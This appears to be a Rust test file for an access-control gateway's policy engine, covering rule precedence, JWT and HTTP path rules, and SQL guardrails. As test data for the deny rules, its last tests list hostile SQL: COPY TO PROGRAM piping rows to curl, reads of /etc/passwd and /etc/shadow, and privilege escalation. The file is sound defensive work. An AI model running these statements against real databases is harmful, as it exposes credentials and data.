use std::{collections::HashSet, path::Path};

use super::{model::compile, *};

fn policy(text: &str) -> Policy {
    compile(&[(Path::new("p.toml"), text)], None).unwrap_or_else(|e| panic!("{e}"))
}

fn errors(text: &str) -> Vec<String> {
    let known: HashSet<String> = ["db", "web", "ssh-host"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    match compile(
        &[(Path::new("/etc/loopgate/policies/p.toml"), text)],
        Some(&known),
    ) {
        Ok(_) => Vec::new(),
        Err(e) => e.0.iter().map(|e| e.to_string()).collect(),
    }
}

fn req<'a>(workload: &'a str, target: &'a str) -> Request<'a> {
    Request {
        workload,
        cgroup: "",
        uid: 1000,
        exe: None,
        target,
        protocol: Protocol::Tcp,
        jwt: None,
        op: Operation::Connect,
    }
}

/// An SQL statement of `r`'s identity.
fn sql<'a>(r: &Request<'a>, kind: &'a str, tables: &'a [String], unbounded: bool) -> Request<'a> {
    Request {
        op: Operation::Sql(SqlOp {
            kind,
            tables,
            writes: tables,
            unbounded,
            functions: &[],
            program: false,
            server_file: false,
            settings: &[],
            text: "",
            params: &[],
        }),
        ..r.clone()
    }
}

/// An HTTP request of `r`'s identity.
fn http<'a>(r: &Request<'a>, method: &'a str, path: &'a str) -> Request<'a> {
    Request {
        op: Operation::Http(HttpOp {
            method,
            path,
            host: None,
            headers: None,
        }),
        ..r.clone()
    }
}

const SET: &str = r#"
[defaults]
action = "allow"

[[workloads]]
name = "etl"
workload = "etl-*"

[[workloads]]
name = "root-loops"
uid = 0

[[targets]]
name = "db"
default = "deny"
reason = "db is closed by default"

[[targets]]
name = "vault"
default = "approve"

[[rules]]
id = "etl-db"
workloads = ["etl"]
targets = ["db"]
action = "allow"

[[rules]]
id = "etl-db-approve"
workloads = ["etl"]
targets = ["db"]
action = "approve"
approvers = ["alice"]
approval_timeout = "30s"
grant = "10m"

[[rules]]
id = "no-root"
workloads = ["root-loops"]
targets = ["*"]
action = "deny"
reason = "loops never run as root"

[[rules]]
id = "web-mask"
targets = ["web"]
action = "mask"
mask = ["password"]

[[rules]]
id = "web-allow"
targets = ["web"]
action = "allow"
"#;

#[test]
fn precedence_and_defaults_table() {
    let p = policy(SET);
    let root = Request {
        uid: 0,
        ..req("etl-nightly", "web")
    };
    let cases: Vec<(Request<'_>, Verdict, &str)> = vec![
        // approve beats allow for the same workload × target
        (req("etl-nightly", "db"), Verdict::Approve, "etl-db-approve"),
        // no rule: the target default
        (req("reporting", "db"), Verdict::Deny, "target-default:db"),
        (
            req("reporting", "vault"),
            Verdict::Approve,
            "target-default:vault",
        ),
        // no rule, no target default: the global default
        (req("reporting", "other"), Verdict::Allow, "default"),
        // mask beats allow
        (req("reporting", "web"), Verdict::Mask, "web-mask"),
        // deny beats everything, via a wildcard target
        (root, Verdict::Deny, "no-root"),
    ];
    for (r, verdict, rule) in cases {
        let d = p.evaluate(&r, None);
        assert_eq!((d.verdict, d.rule_id.as_str()), (verdict, rule), "{r:?}");
    }
    let d = p.evaluate(&req("etl-nightly", "db"), None);
    let a = d.approval.unwrap();
    assert_eq!(a.approvers, vec!["alice".to_string()]);
    assert_eq!(a.timeout, std::time::Duration::from_secs(30));
    assert_eq!(a.grant, Grant::For(std::time::Duration::from_secs(600)));
    assert_eq!(
        p.evaluate(&req("x", "web"), None).mask,
        vec!["password".to_string()]
    );
    assert_eq!(
        p.evaluate(&req("reporting", "db"), None).reason,
        "db is closed by default"
    );
}

#[test]
fn selectors_combine_criteria() {
    let p = policy(
        r#"
[[workloads]]
name = "psql-etl"
workload = "etl"
cgroup = "loopgate/etl/*"
exe = "/usr/bin/psql*"

[[rules]]
id = "r"
workloads = ["psql-etl"]
targets = ["*"]
action = "deny"
"#,
    );
    assert!(p.needs_exe);
    let mut r = Request {
        cgroup: "loopgate/etl/i-1",
        exe: Some("/usr/bin/psql"),
        ..req("etl", "db")
    };
    assert_eq!(p.evaluate(&r, None).verdict, Verdict::Deny);
    r.exe = Some("/usr/bin/python3");
    assert_eq!(p.evaluate(&r, None).verdict, Verdict::Allow);
    r.exe = None;
    assert_eq!(
        p.evaluate(&r, None).verdict,
        Verdict::Allow,
        "unknown exe never matches an exe selector"
    );
}

#[test]
fn protocols_and_kinds_narrow_rules() {
    let p = policy(
        r#"
[[rules]]
id = "pg-only"
targets = ["*"]
protocols = ["postgres"]
kinds = ["sql:*"]
action = "deny"
"#,
    );
    let mut r = req("w", "db");
    assert_eq!(p.evaluate(&r, None).verdict, Verdict::Allow);
    r.protocol = Protocol::Postgres;
    assert_eq!(p.evaluate(&r, None).verdict, Verdict::Allow);
    // Kinds no handler produces yet (SQL statements) match no operation of
    // today's: not the session, not an HTTP request.
    assert_eq!(
        p.evaluate(&http(&r, "GET", "/"), None).verdict,
        Verdict::Allow
    );
}

#[test]
fn errors_have_file_line_column_and_reason() {
    let e = errors("[[rules]]\nid = \"a\"\ntargets = [\"db\"]\naction = \"permit\"\n");
    assert_eq!(
        e,
        vec!["/etc/loopgate/policies/p.toml:4:10: action `permit` is not allow, deny, approve or mask"]
    );
    let e = errors("[[rules]]\nid = \"a\"\ntargets = [\"db\"]\nactoin = \"allow\"\n");
    assert_eq!(e.len(), 1);
    assert!(
        e[0].starts_with("/etc/loopgate/policies/p.toml:4:1: unknown field `actoin`"),
        "{e:?}"
    );
    // Every error is reported, not just the first.
    let e = errors(
        "[[rules]]\nid = \"a\"\nworkloads = [\"ghost\"]\ntargets = [\"nope\"]\naction = \"allow\"\ngrant = \"once\"\n\n[[rules]]\nid = \"a\"\ntargets = [\"db\"]\naction = \"deny\"\n",
    );
    assert_eq!(e.len(), 4, "{e:#?}");
    assert!(e[0].contains(":3:13: unknown workload `ghost`"), "{e:#?}");
    assert!(
        e[1].contains(":4:11: `nope` is not a target of the agent config"),
        "{e:#?}"
    );
    assert!(
        e[2].contains(":6:9: grant only applies to action = \"approve\""),
        "{e:#?}"
    );
    assert!(e[3].contains(":9:6: duplicate rule id `a`"), "{e:#?}");
    let e = errors("[[rules]]\nid = \"m\"\ntargets = [\"web\"]\naction = \"mask\"\n");
    assert!(
        e[0].contains(":4:10: action = \"mask\" needs a non-empty mask list"),
        "{e:?}"
    );
    let e = errors("[[workloads]]\nname = \"w\"\n");
    assert!(e[0].contains(":2:8: workload `w` has no selector"), "{e:?}");
    let e = errors("[[rules]]\nid = \"a\"\ntargets = [\"db\"]\naction = \"approve\"\napproval_timeout = \"soon\"\n");
    assert!(
        e[0].contains(":5:20: approval_timeout `soon` is not a duration"),
        "{e:?}"
    );
}

#[test]
fn shipped_policies_are_valid() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies");
    let p = load_dir(&dir, None).unwrap_or_else(|e| panic!("{e}"));
    assert!(p.files >= 1);
}

#[test]
fn evaluation_with_many_rules_picks_the_strongest() {
    let mut text = String::from("[[workloads]]\nname = \"w\"\nworkload = \"w-*\"\n");
    for i in 0..1000 {
        text.push_str(&format!(
            "[[rules]]\nid = \"r{i}\"\nworkloads = [\"w\"]\ntargets = [\"t{}\"]\naction = \"{}\"\n",
            i % 50,
            if i == 777 { "deny" } else { "allow" }
        ));
    }
    let p = policy(&text);
    assert_eq!(p.rule_count(), 1000);
    let d = p.evaluate(&req("w-1", "t27"), None);
    assert_eq!((d.verdict, d.rule_id.as_str()), (Verdict::Deny, "r777"));
    let d = p.evaluate(&req("w-1", "t28"), None);
    assert_eq!(d.verdict, Verdict::Allow);
}

#[test]
fn a_workload_can_require_a_jwt() {
    let dir = tempfile::tempdir().unwrap();
    let jwks = dir.path().join("jwks.json");
    std::fs::write(&jwks, r#"{"keys": [{"kty": "EC", "crv": "P-256", "kid": "k1", "alg": "ES256", "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU", "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0"}]}"#).unwrap();
    let p = policy(&format!(
        "[[workloads]]\nname = \"bots\"\nworkload = \"bot-*\"\njwt = {{ issuer = \"https://idp.example\", audience = \"loopgate\", jwks_file = \"{}\" }}\n",
        jwks.display()
    ));
    assert_eq!(
        p.jwt_required(&req("bot-1", "db")).map(|x| x.0),
        Some("bots")
    );
    assert!(p.jwt_required(&req("human", "db")).is_none());
    // Without a verified token the selector does not match (fail closed) ...
    assert_eq!(p.workload_matches(&req("bot-1", "db")), vec![false]);
    // ... with one it does.
    let claims = crate::identity::Claims::for_tests("etl-bot", serde_json::json!({}));
    let with = Request {
        jwt: Some(&claims),
        ..req("bot-1", "db")
    };
    assert_eq!(p.workload_matches(&with), vec![true]);
    let e = errors("[[workloads]]\nname = \"bots\"\nworkload = \"bot-*\"\njwt = { issuer = \"i\", audience = \"a\", jwks_file = \"/nonexistent/jwks.json\" }\n");
    assert!(
        e[0].contains(":4:7: cannot read the JWKS /nonexistent/jwks.json"),
        "{e:?}"
    );
}

#[test]
fn http_rules_decide_requests_and_connect_rules_decide_sessions() {
    let p = policy(
        r#"
[[targets]]
name = "api"
default = "approve"

[[rules]]
id = "open-api"
targets = ["api"]
action = "allow"

[[rules]]
id = "no-deletes"
targets = ["api"]
methods = ["DELETE"]
action = "deny"

[[rules]]
id = "admin-needs-a-human"
targets = ["api"]
paths = ["/admin/**"]
action = "approve"

[[rules]]
id = "one-level"
targets = ["api"]
methods = ["PUT"]
paths = ["/items/*"]
action = "deny"
"#,
    );
    let mut r = req("w", "api");
    r.protocol = Protocol::Http;
    // The session decision: the connect rule, not the request rules.
    assert_eq!(p.evaluate(&r, None).rule_id, "open-api");
    let at = |method: &'static str, path: &'static str| {
        let d = p.evaluate(&http(&r, method, path), None);
        (d.verdict, d.rule_id)
    };
    assert_eq!(
        at("DELETE", "/items/1"),
        (Verdict::Deny, "no-deletes".into())
    );
    assert_eq!(
        at("GET", "/admin/users/7"),
        (Verdict::Approve, "admin-needs-a-human".into())
    );
    // Deny beats approve across request rules.
    assert_eq!(at("DELETE", "/admin/x").0, Verdict::Deny);
    assert_eq!(at("PUT", "/items/1").0, Verdict::Deny);
    // `*` stays within one path segment.
    assert_eq!(
        at("PUT", "/items/1/tags"),
        (Verdict::Allow, "session".into())
    );
    // Inside an allowed session, the target default (approve) does not apply
    // to each request again.
    assert_eq!(at("GET", "/items"), (Verdict::Allow, "session".into()));
}

#[test]
fn http_attributes_are_validated() {
    let e = errors(
        "[[rules]]\nid = \"a\"\ntargets = [\"db\"]\nprotocols = [\"postgres\"]\nmethods = [\"delete\"]\npaths = [\"admin\"]\naction = \"deny\"\n",
    );
    assert!(
        e.iter()
            .any(|x| x.contains("p.toml:5:11: methods applies to http")),
        "{e:?}"
    );
    assert!(
        e.iter()
            .any(|x| x.contains("method `delete` is not an upper-case")),
        "{e:?}"
    );
    assert!(
        e.iter()
            .any(|x| x.contains("p.toml:6:9: path `admin` must start with /")),
        "{e:?}"
    );
}

#[test]
fn jwt_sources_are_checked_offline() {
    let w = |jwt: &str| {
        errors(&format!(
            "[[workloads]]\nname = \"bots\"\nworkload = \"bot-*\"\njwt = {{ issuer = \"https://idp.example\", audience = \"loopgate\"{jwt} }}\n"
        ))
    };
    // A URL is not fetched when policies compile (`policy check` is offline).
    assert_eq!(
        w(", jwks_url = \"https://idp.invalid/jwks\""),
        Vec::<String>::new()
    );
    let both = w(", jwks_url = \"https://idp.invalid/jwks\", jwks_file = \"/x\"");
    assert!(
        both[0].starts_with("/etc/loopgate/policies/p.toml:4:7: ") && both[0].contains("not both"),
        "{both:?}"
    );
    let neither = w("");
    assert!(
        neither[0].contains("set jwks_file or jwks_url"),
        "{neither:?}"
    );
    let ca = w(", jwks_file = \"/x\", ca_file = \"/ca.pem\"");
    assert!(
        ca.iter().any(|e| e.contains("ca_file is for jwks_url")),
        "{ca:?}"
    );
    let plain = w(", jwks_url = \"http://idp.invalid/jwks\"");
    assert!(
        plain[0].contains("must be https:// (http:// only on loopback)"),
        "{plain:?}"
    );
    assert!(w(", jwks_url = \"http://127.0.0.1:8080/jwks\"").is_empty());
    let ftp = w(", jwks_url = \"ftp://idp.invalid/jwks\"");
    assert!(
        ftp[0].contains("must be an http:// or https:// URL"),
        "{ftp:?}"
    );
}

#[test]
fn request_defaults_make_allowlists() {
    let p = policy(
        r#"
[[targets]]
name = "api"
default = "allow"
request_default = "deny"

[[rules]]
id = "public-reads"
targets = ["api"]
methods = ["GET"]
paths = ["/public/**"]
action = "allow"
"#,
    );
    let mut r = req("w", "api");
    r.protocol = Protocol::Http;
    assert_eq!(
        p.evaluate(&r, None).verdict,
        Verdict::Allow,
        "the session opens"
    );
    assert_eq!(
        p.evaluate(&http(&r, "GET", "/public/a"), None).rule_id,
        "public-reads"
    );
    let d = p.evaluate(&http(&r, "GET", "/private/a"), None);
    assert_eq!(
        (d.verdict, d.rule_id.as_str()),
        (Verdict::Deny, "request-default:api")
    );
    assert!(errors(
        "[[targets]]\nname = \"db\"\ndefault = \"allow\"\nrequest_default = \"mask\"\n"
    )[0]
    .contains("p.toml:4:19: request_default `mask` is not allow, deny or approve"));
}

#[test]
fn request_rules_that_cannot_be_seen_are_reported() {
    let p = policy(
        r#"
[[targets]]
name = "api"
default = "allow"
request_default = "deny"

[[rules]]
id = "no-deletes-anywhere"
targets = ["*"]
methods = ["DELETE"]
action = "deny"

[[rules]]
id = "no-drops"
targets = ["db"]
kinds = ["sql:drop*"]
action = "deny"
"#,
    );
    let mut r = req("w", "db");
    r.protocol = Protocol::Postgres;
    // A SQL rule on a postgres target (no statement handler yet).
    assert_eq!(p.request_rule(&r).as_deref(), Some("no-drops"));
    // An HTTP method rule says nothing about a raw TCP target.
    let mut t = req("w", "cache");
    t.protocol = Protocol::Tcp;
    assert_eq!(p.request_rule(&t), None);
    // An https target: the method rule, then the request default.
    let mut h = req("w", "api");
    h.protocol = Protocol::Https;
    assert_eq!(p.request_rule(&h).as_deref(), Some("no-deletes-anywhere"));
}

#[test]
fn when_conditions_decide_the_operations_they_read() {
    let p = policy(
        r#"
[[rules]]
id = "etl-only-at-night"
targets = ["api"]
when = "workload == 'etl' && uid == 1000"
action = "deny"
reason = "etl stays out"

[[rules]]
id = "no-admin-deletes"
targets = ["api"]
when = "http.method == 'DELETE' && http.path.startsWith('/admin/')"
action = "deny"

[[rules]]
id = "prod-writes-held"
targets = ["api"]
when = "http.headers['x-env'] == 'prod' && http.method != 'GET'"
action = "approve"

[[rules]]
id = "broken-at-run-time"
targets = ["api"]
when = "http.headers['x-missing'].startsWith('a')"
action = "deny"
"#,
    );
    let mut r = req("w", "api");
    r.protocol = Protocol::Http;
    // A condition on the identity only decides the session.
    assert_eq!(p.evaluate(&r, None).verdict, Verdict::Allow);
    let etl = Request {
        workload: "etl",
        ..r.clone()
    };
    assert_eq!(p.evaluate(&etl, None).rule_id, "etl-only-at-night");
    // ... and no request.
    assert_ne!(
        p.evaluate(&http(&etl, "GET", "/x"), None).rule_id,
        "etl-only-at-night"
    );
    // Conditions on http.* decide requests, never the session. The last
    // rule's condition fails on every request without the header: an
    // error counts as a match for a deny rule (it never opens anything).
    let d = p.evaluate(&http(&r, "DELETE", "/admin/users/1"), None);
    assert_eq!(d.rule_id, "no-admin-deletes");
    let d = p.evaluate(&http(&r, "GET", "/orders"), None);
    assert_eq!(
        (d.verdict, d.rule_id.as_str()),
        (Verdict::Deny, "broken-at-run-time")
    );
    assert!(d.reason.contains("could not be evaluated"), "{}", d.reason);
    let mut headers = hyper::HeaderMap::new();
    headers.insert("x-env", hyper::header::HeaderValue::from_static("prod"));
    headers.insert("x-missing", hyper::header::HeaderValue::from_static("b"));
    let prod = Request {
        op: Operation::Http(HttpOp {
            method: "POST",
            path: "/orders",
            host: None,
            headers: Some(&headers),
        }),
        ..r.clone()
    };
    let d = p.evaluate(&prod, None);
    assert_eq!(
        (d.verdict, d.rule_id.as_str()),
        (Verdict::Approve, "prod-writes-held")
    );
    // An allow rule whose condition fails does not match.
    let allow = policy(
        "[defaults]\naction = \"deny\"\n[[rules]]\nid = \"a\"\ntargets = [\"api\"]\nwhen = \"http.headers['x'].startsWith('a')\"\naction = \"allow\"\n[[targets]]\nname = \"api\"\ndefault = \"allow\"\nrequest_default = \"deny\"\n",
    );
    assert_eq!(
        allow.evaluate(&http(&r, "GET", "/"), None).rule_id,
        "request-default:api"
    );
    // A rule on requests the handler cannot see yet refuses the session.
    let mut pg = req("w", "api");
    pg.protocol = Protocol::Https;
    assert_eq!(p.request_rule(&pg).as_deref(), Some("no-admin-deletes"));
}

#[test]
fn broken_when_conditions_are_policy_errors_at_their_place() {
    // Line 5, the column of the character the parser stopped at.
    let e = errors("[[rules]]\nid = \"a\"\ntargets = [\"db\"]\naction = \"deny\"\nwhen = \"http.method == \"\n");
    assert_eq!(e.len(), 1, "{e:?}");
    assert!(
        e[0].starts_with("/etc/loopgate/policies/p.toml:5:"),
        "{e:?}"
    );
    assert!(e[0].contains("when: unrecognized eof"), "{e:?}");
    for (when, want) in [
        ("htp.path == '/'", "unknown name `htp`"),
        ("http.path", "true or false"),
        // Panicked 0.9.1's parser: a policy error, not a crash.
        ("b'{||\\\\b',1", "when:"),
        ("", "empty"),
    ] {
        let e = errors(&format!(
            "[[rules]]\nid = \"a\"\ntargets = [\"db\"]\naction = \"deny\"\nwhen = \"{when}\"\n"
        ));
        assert!(e.iter().any(|x| x.contains(want)), "{when}: {e:?}");
    }
    // Request attributes on a protocol that has no requests of that kind.
    let e = errors("[[rules]]\nid = \"a\"\ntargets = [\"db\"]\nprotocols = [\"postgres\"]\naction = \"deny\"\nwhen = \"http.method == 'GET'\"\n");
    assert!(
        e[0].contains("when applies to http, https and kubernetes requests"),
        "{e:?}"
    );
    // A `connect` kind has no request attributes.
    let e = errors("[[rules]]\nid = \"a\"\ntargets = [\"db\"]\nkinds = [\"connect\"]\naction = \"deny\"\nwhen = \"http.method == 'GET'\"\n");
    assert!(e[0].contains("a `connect` kind has none"), "{e:?}");
}

#[test]
fn sql_conditions_decide_statements_and_refuse_sessions_until_statements_are_seen() {
    let p = policy(
        r#"
[[rules]]
id = "no-drops"
targets = ["db"]
when = "sql.kind in ['drop', 'truncate'] || sql.unbounded"
action = "deny"

[[rules]]
id = "pii-held"
targets = ["db"]
when = "sql.tables.exists(t, t.startsWith('pii.')) && !(workload in ['analytics'])"
action = "approve"
"#,
    );
    let mut r = req("w", "db");
    r.protocol = Protocol::Postgres;
    // Not a session rule: the session itself opens.
    assert_eq!(p.evaluate(&r, None).verdict, Verdict::Allow);
    // The handler does not see statements yet: the session is refused
    // rather than let through unchecked.
    assert_eq!(p.request_rule(&r).as_deref(), Some("no-drops"));
    let orders = ["public.orders".to_owned()];
    let pii = ["pii.users".to_owned()];
    let stmt = |kind, tables, unbounded| sql(&r, kind, tables, unbounded);
    assert_eq!(
        p.evaluate(&stmt("drop", &orders, false), None).rule_id,
        "no-drops"
    );
    assert_eq!(
        p.evaluate(&stmt("delete", &orders, true), None).rule_id,
        "no-drops"
    );
    assert_eq!(
        p.evaluate(&stmt("delete", &orders, false), None).verdict,
        Verdict::Allow
    );
    let d = p.evaluate(&stmt("select", &pii, false), None);
    assert_eq!(
        (d.verdict, d.rule_id.as_str()),
        (Verdict::Approve, "pii-held")
    );
    // SQL attributes on an HTTP target's rule are a policy error.
    let e = errors("[[rules]]\nid = \"a\"\ntargets = [\"web\"]\nprotocols = [\"http\"]\naction = \"deny\"\nwhen = \"sql.kind == 'drop'\"\n");
    assert!(e[0].contains("when applies to postgres requests"), "{e:?}");
}

#[test]
fn the_shipped_sql_guardrails_refuse_what_they_name_and_nothing_else() {
    use crate::protocol::postgres::sql::classify;
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies");
    let p = load_dir(&dir, None).unwrap_or_else(|e| panic!("{e}"));
    let verdict = |text: &str| -> (Verdict, String) {
        let st = classify(text, &[]).unwrap_or_else(|e| panic!("{text}: {e}"));
        let st = &st[0];
        let r = Request {
            uid: 1000,
            protocol: Protocol::Postgres,
            target: "orders-db",
            workload: "etl",
            op: Operation::Sql(st.op(&st.text, &[])),
            ..Default::default()
        };
        let d = p.evaluate(&r, None);
        if d.verdict != Verdict::Deny {
            assert_eq!(d.mask, ["value:email", "value:card"], "{text}");
        }
        (d.verdict, d.rule_id)
    };
    for (text, rule) in [
        ("DROP TABLE orders", "sql-no-drop-or-truncate"),
        ("truncate orders", "sql-no-drop-or-truncate"),
        ("DELETE FROM orders", "sql-no-unbounded-writes"),
        ("UPDATE orders SET paid = true", "sql-no-unbounded-writes"),
        ("ALTER SYSTEM SET work_mem = '1GB'", "sql-no-alter-system"),
        (
            "COPY orders TO PROGRAM 'curl -d @- x'",
            "sql-no-copy-program",
        ),
        ("ALTER ROLE app PASSWORD 'x'", "sql-no-role-changes"),
        ("ALTER USER app WITH SUPERUSER", "sql-no-role-changes"),
        ("CREATE ROLE evil LOGIN", "sql-no-role-changes"),
        ("GRANT ALL ON orders TO public", "sql-no-role-changes"),
        ("GRANT admin TO app", "sql-no-role-changes"),
        ("SET ROLE admin", "sql-no-role-changes"),
        ("SET SESSION AUTHORIZATION admin", "sql-no-role-changes"),
        (
            "SELECT set_config('role', 'admin', false)",
            "sql-no-role-changes",
        ),
        (
            "SELECT set_config(lower('ROLE'), 'admin', false)",
            "sql-no-role-changes",
        ),
        (
            "SELECT pg_terminate_backend(42)",
            "sql-no-dangerous-functions",
        ),
        (
            "select pg_catalog.pg_read_file('/etc/passwd')",
            "sql-no-dangerous-functions",
        ),
        ("SELECT * FROM pg_ls_dir('.')", "sql-no-dangerous-functions"),
        (
            "SELECT lo_import('/etc/shadow')",
            "sql-no-dangerous-functions",
        ),
        (
            "SELECT public.dblink_connect('host=x')",
            "sql-no-dangerous-functions",
        ),
        ("SELECT pg_reload_conf()", "sql-no-dangerous-functions"),
        (
            "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$",
            "sql-no-do-or-call",
        ),
        ("CALL refresh()", "sql-no-do-or-call"),
        (
            "PREPARE wipe AS DELETE FROM orders",
            "sql-no-unbounded-writes",
        ),
        (
            "WITH x AS (SELECT 1) DELETE FROM orders",
            "sql-no-unbounded-writes",
        ),
    ] {
        let (v, id) = verdict(text);
        assert_eq!(v, Verdict::Deny, "{text}");
        assert_eq!(id.rsplit('#').next(), Some(rule), "{text}");
    }
    for text in [
        "SELECT * FROM orders WHERE id = 1",
        "DELETE FROM orders WHERE id = 1",
        "UPDATE orders SET paid = true WHERE id = $1",
        "INSERT INTO orders VALUES (1)",
        "BEGIN",
        "SET search_path = app, public",
        "SET statement_timeout = '5s'",
        "SELECT set_config('application_name', 'etl', false)",
        "COPY orders TO STDOUT",
        "CREATE TEMP TABLE scratch (id int)",
        "SELECT lower(name) FROM customers",
        "COPY (SELECT * FROM orders) TO STDOUT",
        "COPY orders FROM STDIN",
        "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
        "SELECT drop_count FROM stats",
    ] {
        // Allowed, with personal data masked in the results.
        let (v, id) = verdict(text);
        assert_eq!(v, Verdict::Mask, "{text}");
        assert_eq!(id.rsplit('#').next(), Some("sql-mask-personal-data"));
    }
}

#[test]
fn every_matching_mask_rule_adds_its_list_whatever_decides() {
    let p = policy(
        r#"
[[rules]]
id = "hold-writes"
targets = ["db"]
kinds = ["sql"]
when = "sql.kind == 'update'"
action = "approve"
[[rules]]
id = "mask-a"
targets = ["db"]
kinds = ["sql"]
action = "mask"
mask = ["email"]
[[rules]]
id = "mask-b"
targets = ["*"]
kinds = ["sql"]
action = "mask"
mask = ["value:card", "email"]
"#,
    );
    let base = req("w", "db");
    let d = p.evaluate(&sql(&base, "update", &[], false), None);
    assert_eq!(d.verdict, Verdict::Approve);
    assert_eq!(d.mask, ["email", "value:card"]);
    let d = p.evaluate(&sql(&base, "select", &[], false), None);
    assert_eq!((d.verdict, d.mask.len()), (Verdict::Mask, 2));
    // A bad pattern is an error where it is written.
    let e = errors(
        "[[rules]]\nid = \"m\"\ntargets = [\"db\"]\naction = \"mask\"\nmask = [\"value:re:(\"]\n",
    );
    assert!(
        e[0].contains(":5:8:") && e[0].contains("value:re:("),
        "{e:?}"
    );
}
